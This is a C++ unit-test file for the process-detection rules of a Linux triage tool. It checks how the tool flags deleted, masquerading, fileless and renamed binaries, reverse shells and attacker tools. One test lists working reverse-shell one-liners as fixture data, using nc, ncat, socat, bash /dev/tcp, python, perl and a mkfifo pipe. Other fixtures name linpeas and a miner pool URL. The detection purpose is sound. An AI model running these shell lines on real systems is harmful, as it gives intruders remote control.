#include <gtest/gtest.h>

#include "detect/detectors.hpp"
#include "support/snapshot_builder.hpp"

using namespace vigil;
using namespace vigil::testing;

namespace {
Findings run(const collect::Snapshot& s) { return detect::run_triage(s, {}); }
}  // namespace

TEST(ProcessRules, CleanPackagedProcesses_AreQuiet) {
  auto s = empty_snapshot();
  s.processes.push_back(process(1, "/usr/lib/systemd/systemd", {"/sbin/init"}, "systemd"));
  s.processes.push_back(process(200, "/usr/sbin/sshd",
                                {"sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"},
                                "openssh-server"));
  s.processes.push_back(process(300, "/usr/bin/bash", {"-bash"}, "bash", 200));
  s.processes.push_back(process(301, "/usr/bin/python3.11",
                                {"/usr/bin/python3", "/usr/bin/unattended-upgrade"}, "python3.11"));
  s.sockets.push_back(socket("tcp", "LISTEN", "0.0.0.0", 22, 200));
  auto k = process(2, "", {});
  k.kernel_thread = true;
  k.name = "kworker/0:1";
  s.processes.push_back(k);
  EXPECT_TRUE(run(s).empty());
}

TEST(ProcessRules, DeletedTempBinaryNamedLikeAKernelThread_IsHighThreeWays) {
  auto s = empty_snapshot();
  auto p = process(4242, "/tmp/.x/kworker", {"[kworker/0:1]", "300"});
  p.deleted = true;
  s.processes.push_back(p);
  auto f = run(s);
  ASSERT_EQ(with_rule(f, "process.deleted-executable").size(), 1u);
  EXPECT_EQ(with_rule(f, "process.deleted-executable")[0]->severity, Severity::high);
  EXPECT_EQ(with_rule(f, "process.temp-executable")[0]->severity, Severity::high);
  EXPECT_EQ(with_rule(f, "process.kernel-thread-masquerade")[0]->severity, Severity::high);
  EXPECT_EQ(with_rule(f, "process.deleted-executable")[0]->get("process.pid"), "4242");
}

TEST(ProcessRules, DeletedPackagedBinary_IsLowUpgradeNotice) {
  auto s = empty_snapshot();
  auto p = process(10, "/usr/sbin/cron", {"/usr/sbin/cron", "-f"}, "cron");
  p.deleted = true;
  s.processes.push_back(p);
  auto f = run(s);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].severity, Severity::low);
}

TEST(ProcessRules, TempExecutableAlone_IsMedium) {
  auto s = empty_snapshot();
  s.processes.push_back(process(10, "/tmp/build/a.out", {"./a.out"}));
  auto f = run(s);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].rule, "process.temp-executable");
  EXPECT_EQ(f[0].severity, Severity::medium);
}

TEST(ProcessRules, ReverseShellCommandLines_AreCritical) {
  const std::vector<std::vector<std::string>> shells = {
      {"nc", "-l", "-p", "3349", "-e", "/bin/sh"},
      {"/tmp/msupdate", "-l", "-p", "3349", "-e", "/bin/sh"},  // renamed: the -e shape
      {"ncat", "10.0.0.1", "4444", "--sh-exec", "bash"},
      {"socat", "TCP:10.0.0.1:4444", "EXEC:/bin/bash,pty"},
      {"bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
      {"python3", "-c",
       "import "
       "socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0)"},
      {"perl", "-e",
       "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));exec('/bin/sh -i');"},
      {"sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f"},
  };
  for (const auto& argv : shells) {
    auto s = empty_snapshot();
    s.processes.push_back(process(77, "/usr/bin/x", argv, "pkg"));
    auto all_f = run(s);
    auto f = with_rule(all_f, "process.reverse-shell");
    ASSERT_EQ(f.size(), 1u) << argv.back();
    EXPECT_EQ(f[0]->severity, Severity::critical);
  }
}

TEST(ProcessRules, BenignLookalikes_AreNotReverseShells) {
  const std::vector<std::vector<std::string>> benign = {
      {"nc", "-z", "localhost", "22"},
      {"grep", "-e", "/bin/sh", "/etc/passwd"},  // the -e shape without a port
      {"python3", "-m", "http.server"},
      {"bash", "-c", "echo /dev/null"},
      {"perl", "-e", "print 1"},
  };
  int flagged = 0;
  for (const auto& argv : benign) {
    auto s = empty_snapshot();
    s.processes.push_back(process(77, "/usr/bin/x", argv, "pkg"));
    flagged += static_cast<int>(count_rule(run(s), "process.reverse-shell"));
  }
  EXPECT_EQ(flagged, 0);
}

TEST(ProcessRules, ShellUnderWebServer_IsHigh) {
  auto s = empty_snapshot();
  s.processes.push_back(
      process(100, "/usr/sbin/apache2", {"/usr/sbin/apache2", "-k", "start"}, "apache2"));
  s.processes.push_back(process(101, "/usr/bin/dash", {"sh", "-c", "id"}, "dash", 100));
  s.processes.push_back(process(102, "/usr/bin/bash", {"bash", "-i"}, "bash", 101));
  auto all_f = run(s);
  auto f = with_rule(all_f, "process.shell-from-network-service");
  ASSERT_EQ(f.size(), 2u);
  EXPECT_EQ(f[0]->get("process.parent.name"), "apache2");
}

TEST(ProcessRules, RenamedPackagedBinary_IsCriticalForNetcat) {
  auto s = empty_snapshot();
  auto p = process(55, "/tmp/msupdate", {"msupdate", "-l", "-p", "3349"});
  p.copy_of = "/bin/nc.traditional";
  s.processes.push_back(p);
  auto all_f = run(s);
  auto f = with_rule(all_f, "process.renamed-system-binary");
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0]->severity, Severity::critical);
  EXPECT_EQ(f[0]->get("file.path"), "/bin/nc.traditional");
}

TEST(ProcessRules, UnownedBinaryWithDaemonName_IsMasquerade) {
  auto s = empty_snapshot();
  s.processes.push_back(process(55, "/usr/local/sbin/sshd", {"/usr/local/sbin/sshd"}));
  EXPECT_EQ(count_rule(run(s), "process.name-masquerade"), 1u);
  auto c = empty_snapshot();
  auto in_container = process(56, "/usr/sbin/sshd", {"/usr/sbin/sshd"});
  in_container.in_container = true;
  c.processes.push_back(in_container);
  EXPECT_TRUE(run(c).empty());
}

TEST(ProcessRules, FilelessSeverityFollowsEvidence) {
  auto s = empty_snapshot();
  auto p = process(60, "/memfd:x", {"helper"});
  p.fileless = true;
  s.processes.push_back(p);
  EXPECT_EQ(first_with_rule(run(s), "process.fileless").severity, Severity::medium);
  s.sockets.push_back(socket("tcp", "ESTABLISHED", "10.0.0.2", 40000, 60, 3, "198.51.100.1", 443));
  EXPECT_EQ(first_with_rule(run(s), "process.fileless").severity, Severity::high);
}

TEST(ProcessRules, AttackerToolNames) {
  auto s = empty_snapshot();
  s.processes.push_back(process(70, "/usr/bin/bash", {"bash", "/dev/shm/linpeas.sh"}, "bash"));
  s.processes.push_back(
      process(71, "/opt/x/xm", {"./xm", "-o", "stratum+tcp://pool.example:3333"}));
  auto all_f = run(s);
  auto f = with_rule(all_f, "process.attacker-tool");
  ASSERT_EQ(f.size(), 2u);
}

TEST(ProcessRules, VigilsOwnProcess_IsNeverJudged) {
  auto s = empty_snapshot();
  auto p = process(99, "/tmp/build/vigil", {"./vigil", "triage"});
  p.self = true;
  s.processes.push_back(p);
  EXPECT_TRUE(run(s).empty());
  s.processes[0].self = false;
  EXPECT_EQ(count_rule(run(s), "process.temp-executable"), 1u);
}

// A tool manager's interpreter in a home's dot-directory, serving on loopback, is a weak
// signal (issue 31, 6): low, saying where it runs; a hidden directory elsewhere is not.
TEST(ProcessRules, PyenvPythonServingOnLoopback_IsLowAndSaysWhereItRuns) {
  auto s = empty_snapshot();
  s.processes.push_back(process(500, "/root/.pyenv/versions/3.11.7/bin/python3.11",
                                {"python3", "-m", "http.server", "--bind", "127.0.0.1", "8000"}));
  s.sockets.push_back(socket("tcp", "LISTEN", "127.0.0.1", 8000, 500));
  auto f = run(s);
  for (const auto& x : f) EXPECT_LE(x.severity, Severity::low) << x.rule;
  auto hidden = with_rule(f, "process.hidden-dir-executable");
  ASSERT_EQ(hidden.size(), 1u);
  EXPECT_NE(hidden[0]->why.find("a hidden directory in a home"), std::string::npos) << hidden[0]->why;
  EXPECT_EQ(count_rule(f, "process.temp-executable"), 0u) << "a home is not a temporary directory";
  EXPECT_EQ(with_rule(f, "process.unowned-listener")[0]->severity, Severity::low);

  auto t = empty_snapshot();
  t.processes.push_back(process(600, "/usr/lib/.x/sshd-helper", {"sshd-helper"}));
  t.sockets.push_back(socket("tcp", "LISTEN", "0.0.0.0", 3349, 600));
  auto g = run(t);
  EXPECT_EQ(with_rule(g, "process.hidden-dir-executable")[0]->severity, Severity::high);
  EXPECT_EQ(with_rule(g, "network.unowned-public-listener")[0]->severity, Severity::high);
  EXPECT_NE(with_rule(g, "network.unowned-public-listener")[0]->why.find("a hidden directory"), std::string::npos);
}
